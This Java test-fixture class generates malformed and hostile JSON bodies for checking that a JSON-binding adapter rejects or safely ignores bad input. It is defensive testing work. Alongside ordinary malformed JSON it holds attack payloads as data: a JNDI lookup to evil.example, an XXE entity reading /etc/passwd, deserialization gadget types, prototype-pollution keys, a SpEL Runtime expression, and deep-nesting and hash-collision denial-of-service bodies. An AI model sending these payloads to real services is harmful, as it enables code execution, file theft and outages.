package dev.portolan.testkit.adapter;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/** Bodies for a function that takes {@link Bystanders.Booking}. */
final class BadDocuments {
  static final String GOOD = "{\"id\":\"o\",\"amount\":1}";

  /** What is said of a value that is none of those that an enum has. */
  private static final String NO_CONSTANT = "Expected one of the values this field may have at ";

  private BadDocuments() {}

  /** What is no JSON, whatever is wanted of it. */
  static List<BadInput> malformed() {
    List<BadInput> all = new ArrayList<>();
    for (String body :
        List.of(
            "",
            " ",
            "{",
            "}",
            GOOD.substring(0, 12),
            GOOD + "x",
            GOOD + GOOD,
            GOOD + ",",
            GOOD + "\u0000",
            GOOD + "\u00a0",
            "\ufeff" + GOOD,
            "\u0000" + GOOD,
            "nul",
            "True",
            "undefined",
            "{\"amount\":NaN}",
            "{\"amount\":Infinity}",
            "{\"amount\":-Infinity}",
            "{\"amount\":01}",
            "{\"amount\":-01}",
            "{\"amount\":+1}",
            "{\"amount\":0x1}",
            "{\"amount\":.5}",
            "{\"amount\":1.}",
            "{\"amount\":-}",
            "{\"amount\":1e}",
            "{\"amount\":- 1}",
            "{\"amount\":1_000}",
            "{\"amount\":1e99999999}",
            "{\"price\":1e10000}",
            "{\"price\":1e-10000}",
            "{\"price\":1e99999999999999999999}",
            "{\"count\":" + "9".repeat(1001) + "}",
            "{\"count\":" + "9".repeat(1_000_000) + "}",
            "{\"price\":0." + "1".repeat(999) + "}",
            "{'id':'o'}",
            "{id:\"o\"}",
            "{\"id\":'o'}",
            "{\"id\":\"o\",}",
            "{,\"id\":\"o\"}",
            "{\"id\":\"o\",,\"amount\":1}",
            "{\"id\" \"o\"}",
            "{\"id\"=\"o\"}",
            "{\"id\"}",
            "{\"id\":}",
            "{\"id\":\"o\" \"amount\":1}",
            "{\"id\":\"o\"]",
            "{\"numbers\":[1,]}",
            "{\"numbers\":[,1]}",
            "{\"numbers\":[1 2]}",
            "{\"numbers\":[1}",
            "{\"numbers\":1]}",
            "/**/" + GOOD,
            "// x\n" + GOOD,
            "# x\n" + GOOD,
            GOOD + "//",
            "{\"id\":\"o}",
            "{\"id\":\"\\ud800\"}",
            "{\"id\":\"\\udc00\"}",
            "{\"id\":\"\\ud800\\ud800\"}",
            "{\"id\":\"\\udc00\\ud800\"}",
            "{\"\\ud800\":1}",
            "{\"id\":\"\\x\"}",
            "{\"id\":\"\\'\"}",
            "{\"id\":\"\\u00g0\"}",
            "{\"id\":\"\\u00\"}",
            "{\"id\":\"\\U0041\"}",
            "{\"id\":\"a\nb\"}",
            "{\"id\":\"a\tb\"}",
            "{\"id\":\"a\u0001b\"}",
            "{\"id\":\"a\u0000b\"}",
            "{\"id\":\"o\",\"id\":\"p\"}",
            "{\"id\":null,\"id\":null}",
            "{\"x\":1,\"x\":2}",
            "{\"x\":{\"y\":[{\"z\":1,\"z\":1}]}}",
            "{\"i\\u0064\":\"o\",\"id\":\"p\"}",
            "[".repeat(100_000),
            "{\"x\":" + "[".repeat(100_000) + "}",
            "{\"x\":" + "[".repeat(200) + "]".repeat(200) + "}",
            "{\"x\":" + "{\"x\":".repeat(1000) + "1" + "}".repeat(1000) + "}",
            "{\"a\":".repeat(100_000),
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]",
            "\u00ac\u00ed\u0000\u0005sr\u0000\u0011java.util.HashMap",
            "%7B%22id%22%3A%22o%22%7D",
            "id=o&amount=1",
            "--x\r\nContent-Disposition: form-data; name=\"id\"\r\n\r\no\r\n--x--",
            "*1\r\n$4\r\nPING\r\n",
            "${jndi:ldap://evil.example/a}")) {
      all.add(BadInput.post("no JSON: " + shown(body), body));
    }
    all.addAll(notUtf8());
    return all;
  }

  private static String shown(String body) {
    return body.length() + " of " + body.substring(0, Math.min(40, body.length()));
  }

  private static List<BadInput> notUtf8() {
    List<BadInput> all = new ArrayList<>();
    for (Map.Entry<String, String> bytes :
        Map.of(
                "FF", "\u00ff",
                "E9", "\u00e9",
                "an overlong NUL", "\u00c0\u0080",
                "an overlong slash", "\u00c0\u00af",
                "half a pair", "\u00ed\u00a0\u0080",
                "a beginning", "\u00e2\u0082",
                "a continuation", "\u0080",
                "beyond the last character", "\u00f4\u0090\u0080\u0080",
                "F5", "\u00f5\u0080\u0080\u0080")
            .entrySet()) {
      for (String member : List.of("id", "ignored")) {
        String body = "{\"" + member + "\":\"" + bytes.getValue() + "\"}";
        all.add(
            BadInput.post(
                "not UTF-8: " + bytes.getKey() + " in " + member,
                body.getBytes(StandardCharsets.ISO_8859_1)));
      }
    }
    all.add(BadInput.post("UTF-16", GOOD.getBytes(StandardCharsets.UTF_16)));
    all.add(BadInput.post("UTF-16 without a mark", GOOD.getBytes(StandardCharsets.UTF_16LE)));
    byte[] compressed = {0x1f, (byte) 0x8b, 8, 0, 0, 0, 0, 0, 0, 0};
    all.add(BadInput.post("what was compressed", compressed));
    return all;
  }

  /** JSON of another kind than a component is, and where that is told. */
  static List<BadInput> ofOtherKinds() {
    List<BadInput> all = new ArrayList<>();
    for (String body : List.of("[]", "[" + GOOD + "]", "1", "true", "\"x\"", "\"\"")) {
      all.add(BadInput.post("no object: " + body, body).withDetail("Expected an object"));
    }
    add(all, "id", "Expected text at ", "1", "true", "[]", "{}", "[\"o\"]");
    add(all, "amount", "Expected a whole number at ", "\"1\"", "\"\"", "true", "[]", "{}", "1.5");
    add(all, "amount", "", "2147483648", "-2147483649", "1e400", "0.1", "1e-1");
    add(all, "total", "Expected a whole number at ", "\"1\"", "1.5", "[1]");
    add(all, "total", "", "9223372036854775808", "-9223372036854775809", "1e30");
    add(all, "small", "Expected a smaller number at ", "32768", "-32769");
    add(all, "small", "Expected a whole number at ", "\"1\"", "1.5", "{}");
    add(all, "tiny", "Expected a smaller number at ", "128", "-129");
    add(all, "tiny", "Expected a whole number at ", "\"1\"", "0.5", "true");
    add(all, "rate", "Expected a number at ", "\"NaN\"", "\"1.5\"", "true", "[]", "{}");
    add(all, "rate", "", "1e400", "-1e400");
    add(all, "paid", "Expected true or false at ", "1", "0", "\"true\"", "\"\"", "[]", "{}");
    add(all, "sign", "Expected one character at ", "65", "\"\"", "\"ab\"", "true", "[]");
    add(all, "colour", NO_CONSTANT, "\"BLUE\"", "\"red\"", "\" RED\"", "\"\"", "0", "[]", "{}");
    add(
        all,
        "day",
        "Expected text in the form of LocalDate at ",
        "20500",
        "[2026,1,2]",
        "\"\"",
        "\"2026-1-2\"",
        "\"2026-02-30\"",
        "\"2026-01-02T00:00:00Z\"",
        "\"yesterday\"",
        "{}");
    add(
        all,
        "since",
        "Expected text in the form of Instant at ",
        "1700000000",
        "1.5",
        "\"2026-01-02\"",
        "\"1700000000\"",
        "\"2026-01-02T25:00:00Z\"",
        "true");
    add(all, "lasts", "Expected text in the form of Duration at ", "90", "\"90\"", "\"1 hour\"");
    add(
        all,
        "key",
        "Expected text in the form of UUID at ",
        "1",
        "\"\"",
        "\"1-1-1-1-1\"",
        "\"AAAAAAAAAAEAAAAAAAAAAg==\"",
        "\"${jndi:ldap://evil.example/a}\"");
    add(all, "link", "", "\"a b\"", "1", "\"http://[::1\"", "{}");
    add(all, "price", "Expected a number at ", "\"1.5\"", "true", "[]");
    add(all, "count", "", "1.5", "1e1000", "\"1\"", "{}");
    add(all, "photo", "", "\"%%\"", "\"A Q==\"", "\"AQ\\n\"", "\"-_8=\"", "1", "[1]");
    add(all, "numbers", "Expected an array at ", "1", "\"1\"", "{}", "true");
    add(all, "numbers", "", "[\"1\"]", "[1.5]", "[[1]]", "[2147483648]", "[1,2,{}]");
    add(all, "counts", "Expected an object at ", "1", "[]", "\"a\"");
    add(all, "counts", "", "{\"a\":\"1\"}", "{\"a\":1.5}", "{\"a\":[]}");
    add(all, "address", "Expected an object at ", "1", "[]", "\"a\"", "true");
    add(all, "note", "Expected text at ", "1", "[]", "{}");
    for (String address :
        List.of(
            "{}",
            "{\"street\":\"a\"}",
            "{\"number\":null}",
            "{\"number\":\"1\"}",
            "{\"number\":1.5}",
            "{\"number\":[]}")) {
      all.add(
          BadInput.post("address is " + address, "{\"address\":" + address + "}")
              .withDetail("Expected a whole number at /address/number"));
    }
    all.add(
        BadInput.post("street is a number", "{\"address\":{\"street\":1,\"number\":1}}")
            .withDetail("Expected text at /address/street"));
    return all;
  }

  private static void add(List<BadInput> all, String member, String said, String... values) {
    for (String value : values) {
      BadInput input = BadInput.post(member + " is " + value, "{\"" + member + "\":" + value + "}");
      all.add(said.isEmpty() ? input : input.withDetail(said + "/" + member));
    }
  }

  /** What the function is handed without what it did not ask for. */
  static List<BadInput> harmless() {
    List<BadInput> all = new ArrayList<>();
    for (String member :
        List.of(
            "\"@class\":\"java.net.URL\"",
            "\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"",
            "\"class\":\"java.lang.Runtime\"",
            "\"class\":{\"classLoader\":{\"resources\":null}}",
            "\"__proto__\":{\"amount\":2}",
            "\"constructor\":{\"prototype\":{\"amount\":2}}",
            "\"ID\":\"p\"",
            "\"function\":\"other\"",
            "\"$portolan\":\"probe\"",
            "\"$ref\":\"#\"",
            "\"x\":\"${jndi:ldap://evil.example/a}\"",
            "\"x\":\"#{T(java.lang.Runtime)}\"",
            "\"x\":\"" + "a".repeat(1 << 20) + "\"",
            manyKeys(),
            collidingKeys())) {
      String body = GOOD.replace("{", "{" + member + ",");
      all.add(BadInput.post("harmless: " + shown(member), body).withStatus(200));
    }
    return all;
  }

  private static String manyKeys() {
    StringBuilder members = new StringBuilder("\"k\":0");
    for (int i = 0; i < 50_000; i++) {
      members.append(",\"k").append(i).append("\":0");
    }
    return members.toString();
  }

  /** {@code "Aa"} and {@code "BB"} have one hash, and so has each row of them. */
  private static String collidingKeys() {
    StringBuilder members = new StringBuilder("\"k\":0");
    for (int i = 0; i < 1 << 14; i++) {
      members.append(",\"");
      for (int bit = 0; bit < 14; bit++) {
        members.append((i >> bit & 1) == 0 ? "Aa" : "BB");
      }
      members.append("\":0");
    }
    return members.toString();
  }
}
